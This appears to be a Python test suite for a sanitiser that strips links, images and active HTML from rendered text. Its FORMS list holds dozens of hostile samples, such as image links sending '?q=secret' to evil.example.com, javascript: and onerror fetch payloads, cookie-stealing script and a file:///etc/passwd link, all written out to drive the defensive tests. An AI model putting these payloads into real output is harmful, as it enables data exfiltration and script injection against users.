from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mainstay.guard.rendering import REMOVED, plain, to_html

EVIL = "evil.example.com"
FORMS = [
    "![x](https://evil.example.com/a.png)",
    "![](https://evil.example.com/?q=secret)",
    "![x](https://evil.example.com/a.png 'title')",
    "![x](<https://evil.example.com/a b.png>)",
    "![x][r]\n\n[r]: https://evil.example.com/a.png",
    "![r]\n\n[r]: https://evil.example.com/a.png",
    "![r][]\n\n[r]: <https://evil.example.com/a.png> 'title'",
    "[![x](https://evil.example.com/a.png)](https://evil.example.com/)",
    "[click](https://evil.example.com/)",
    '[click](https://evil.example.com/ "title")',
    "[click](<https://evil.example.com/>)",
    "[click](\nhttps://evil.example.com/\n)",
    "[click](//evil.example.com/x)",
    "[click](http:evil.example.com)",
    "[click][r]\n\n[r]: https://evil.example.com/",
    "[r]\n\n[r]: https://evil.example.com/",
    "[r][]\n\n[r]:\n  https://evil.example.com/\n  'title'",
    "> [r]: https://evil.example.com/\n\n[r]",
    "[a [b](https://evil.example.com/1) c](https://evil.example.com/2)",
    "[a](https://evil.example.com/(x))",
    "[a\\](https://evil.example.com/)",
    "\\[a](https://evil.example.com/)",
    "<https://evil.example.com/>",
    "<HTTPS://evil.example.com/>",
    "<mailto:a@evil.example.com>",
    "<a@evil.example.com>",
    "https://evil.example.com/path?q=1",
    "HTTPS://EVIL.example.com",
    "http://evil.example.com:8080/x",
    "hxxps then https://evil.example.com.",
    "ftp://evil.example.com/f",
    "www.evil.example.com",
    "evil.example.com/path",
    "evil.example.com",
    "//evil.example.com/x",
    "\\\\evil.example.com\\share",
    "a@evil.example.com",
    "mailto:a@evil.example.com",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "javascript:alert(document.cookie)",
    "vbscript:msgbox(1)",
    "<a href='https://evil.example.com/'>x</a>",
    "<a href=https://evil.example.com/>x",
    "<img src=https://evil.example.com/a.png>",
    "<img srcset='https://evil.example.com/a.png 2x'>",
    "<img src=x onerror=\"fetch('https://evil.example.com')\">",
    "<svg><image href='https://evil.example.com/a.png'/></svg>",
    "<style>body{background:url(https://evil.example.com/a.png)}</style>",
    "<div style=\"background:url('https://evil.example.com/a.png')\">x</div>",
    "<iframe src='https://evil.example.com/'></iframe>",
    "<script>fetch('https://evil.example.com')</script>",
    "<script src=//evil.example.com/x.js></script>",
    "<link rel=stylesheet href='https://evil.example.com/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example.com/'>",
    "<form action='https://evil.example.com/'><button>go</button></form>",
    "<object data='https://evil.example.com/'></object>",
    "<video poster='https://evil.example.com/a.png'></video>",
    "<base href='https://evil.example.com/'>",
    "<!-- <a href='https://evil.example.com/'>x</a> -->",
    "&lt;img src=https://evil.example.com/a.png&gt;",
    "&#60;a href='https://evil.example.com/'&#62;x&#60;/a&#62;",
    "[x](https&#58;//evil.example.com/)",
    "http&colon;//evil.example.com/",
    "h t t p s : / / evil.example.com",
    "[x](\thttps://evil.example.com/\t)",
    "!\\[x](https://evil.example.com/a.png)",
    "`[x](https://evil.example.com/)`",
    "# [x](https://evil.example.com/)",
    "- ![x](https://evil.example.com/a.png)",
    "| a |\n|---|\n| ![x](https://evil.example.com/a.png) |",
    "[^1]\n\n[^1]: https://evil.example.com/",
    "![x](https://evil.example.com/a.png){width=1}",
    "[1](https://evil.example.com/)",
    "192.168.0.1/admin",
    "tel:+123456789",
    "file:///etc/passwd",
]


class Active(HTMLParser):
    """Collects every attribute and every tag that can fetch or run."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [f"{tag}.{name}" for name, _ in attrs]
        if tag in {"a", "img", "script", "style", "svg", "iframe", "form", "link", "meta", "object", "video", "base"}:
            self.found.append(tag)


def active(html: str) -> list[str]:
    parser = Active()
    parser.feed(html)
    return parser.found


def test_there_are_enough_forms() -> None:
    assert len(FORMS) >= 50


@pytest.mark.parametrize("form", FORMS)
def test_no_form_is_active_as_html(form: str) -> None:
    assert active(to_html(f"Before {form} after")) == []
    assert active(to_html(form)) == []
    assert active(to_html(plain(form))) == []


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("around", ["{}", "Before {} after.", "Text\n\n{}\n\nmore"])
def test_no_address_is_left_in_plain_text(form: str, around: str) -> None:
    shown = plain(around.format(form))
    assert EVIL not in shown.lower()
    assert not re.search(
        r"https?://|javascript:|data:text|mailto:|<[a-z]|\]\(|!\[|file:/|tel:", shown, re.IGNORECASE
    ), shown


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("The [handbook](https://a.com/x) says 30 days [1].", "The handbook says 30 days [1]."),
        ("See https://a.com/x, please.", f"See {REMOVED}, please."),
        ("Up to 5 < 6 and 7 > 2.", "Up to 5 < 6 and 7 > 2."),
        ("Both [1] [2] and [1][2].", "Both [1] [2] and [1] [2]."),
        ("**Bold** and `code` stay.", "**Bold** and `code` stay."),
        ("e.g. the U.S. and i.e. Node.js at 3.5 p.m.", "e.g. the U.S. and i.e. Node.js at 3.5 p.m."),
        ("a.b.c and x.y = 3.14", "a.b.c and x.y = 3.14"),
        ("Ratio 10:1, at 10:30.", "Ratio 10:1, at 10:30."),
        ("An image ![alt](x.png) here", "An image here"),
    ],
)
def test_plain(text: str, expected: str) -> None:
    assert plain(text) == expected


def test_an_address_stays_as_code_when_a_cited_passage_holds_it_verbatim() -> None:
    passages = ["Write to help@acme.com or open https://acme.com/help today."]
    shown = plain("Open https://acme.com/help or https://acme.com/help?q=secret; write to help@acme.com.", passages)
    assert shown == f"Open `https://acme.com/help` or {REMOVED}; write to `help@acme.com`."
    assert active(to_html(shown)) == []


def test_html_keeps_structure() -> None:
    html = to_html("# A\n\n- **b** `c`\n- d\n\n| x | y |\n|---|---|\n| 1 | 2 |")
    for tag in ("<h1>", "<ul>", "<strong>", "<code>", "<table>", "<td>"):
        assert tag in html


@given(st.text(alphabet="[]()!<>:/\\\"'`&#;.@ ahrefsimgpt\n|*-", max_size=200))
@settings(max_examples=300, deadline=None)
def test_nothing_random_is_active(text: str) -> None:
    assert active(to_html(text)) == []
    assert active(to_html(plain(text))) == []


@given(st.lists(st.sampled_from(FORMS), min_size=1, max_size=4))
@settings(max_examples=150, deadline=None)
def test_forms_together_are_not_active_either(forms: list[str]) -> None:
    shown = plain(" ".join(forms))
    assert active(to_html(shown)) == []
    assert EVIL not in shown.lower()


def test_plain_twice_is_plain_once() -> None:
    for form in FORMS:
        once = plain(f"Before {form} after")
        assert plain(once) == once


@pytest.mark.parametrize(
    "piece", ["[", "![", "<", "](", "!", "<a ", "a.", "[a](", "http://", "`", "\\", "&lt;", "<!--", "[x]: "]
)
def test_long_hostile_text_takes_no_long_time(piece: str) -> None:
    text = piece * 3_000
    assert active(to_html(plain(text))) == []
